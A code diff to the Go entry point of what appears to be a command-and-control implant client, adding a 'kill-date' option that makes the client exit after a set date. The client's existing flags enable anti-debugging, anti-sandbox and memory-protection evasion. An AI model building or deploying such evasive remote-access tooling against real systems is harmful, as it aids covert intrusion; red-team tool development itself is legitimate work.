@@ -1,6 +1,7 @@
 package main
 
 import (
+	"errors"
 	"flag"
 	"fmt"
 	"os"
@@ -21,6 +22,7 @@ func main() {
 	enableMemProtect := flag.Bool("mem-protect", true, "Enable memory protection")
 	heartbeatInterval := flag.Int("heartbeat", 30, "Heartbeat interval in seconds")
 	reconnectInterval := flag.Int("reconnect", 5, "Reconnect interval in seconds")
+	killDateStr := flag.String("kill-date", "", "Date after which the client exits (RFC3339 or YYYY-MM-DD)")
 	flag.Parse()
 
 	if *serverAddr == "" {
@@ -37,6 +39,17 @@ func main() {
 		os.Exit(1)
 	}
 
+	// Parse kill date
+	var killDate time.Time
+	if *killDateStr != "" {
+		var err error
+		killDate, err = parseKillDate(*killDateStr)
+		if err != nil {
+			fmt.Printf("Error: %v\n", err)
+			os.Exit(1)
+		}
+	}
+
 	// Create client configuration
 	config := &client.ClientConfig{
 		ServerAddress:     *serverAddr,
@@ -49,6 +62,7 @@ func main() {
 		EnableAntiDebug:   *enableAntiDebug,
 		EnableAntiSandbox: *enableAntiSandbox,
 		EnableMemProtect:  *enableMemProtect,
+		KillDate:          killDate,
 	}
 
 	// Create client
@@ -60,6 +74,10 @@ func main() {
 
 	// Start client
 	err = c.Start()
+	if errors.Is(err, client.ErrKillDatePassed) {
+		fmt.Println("Kill date has passed, exiting.")
+		os.Exit(0)
+	}
 	if err != nil {
 		fmt.Printf("Error starting client: %v\n", err)
 		os.Exit(1)
@@ -72,8 +90,11 @@ func main() {
 	sigChan := make(chan os.Signal, 1)
 	signal.Notify(sigChan, syscall.SIGINT, syscall.SIGTERM)
 
-	// Wait for termination signal
-	<-sigChan
+	// Wait for termination signal or the kill date
+	select {
+	case <-sigChan:
+	case <-c.Done():
+	}
 	fmt.Println("\nShutting down client...")
 	
 	// Stop client
@@ -85,6 +106,18 @@ func main() {
 	fmt.Println("Client shutdown complete.")
 }
 
+// parseKillDate parses a kill date given as RFC3339 or as a date in UTC
+func parseKillDate(value string) (time.Time, error) {
+	if t, err := time.Parse(time.RFC3339, value); err == nil {
+		return t, nil
+	}
+	t, err := time.Parse("2006-01-02", value)
+	if err != nil {
+		return time.Time{}, fmt.Errorf("invalid kill date %q, expected RFC3339 or YYYY-MM-DD", value)
+	}
+	return t, nil
+}
+
 // parseProtocols converts a comma-separated protocol list to a slice of ProtocolType
 func parseProtocols(protocolList string) []client.ProtocolType {
 	var protocols []client.ProtocolType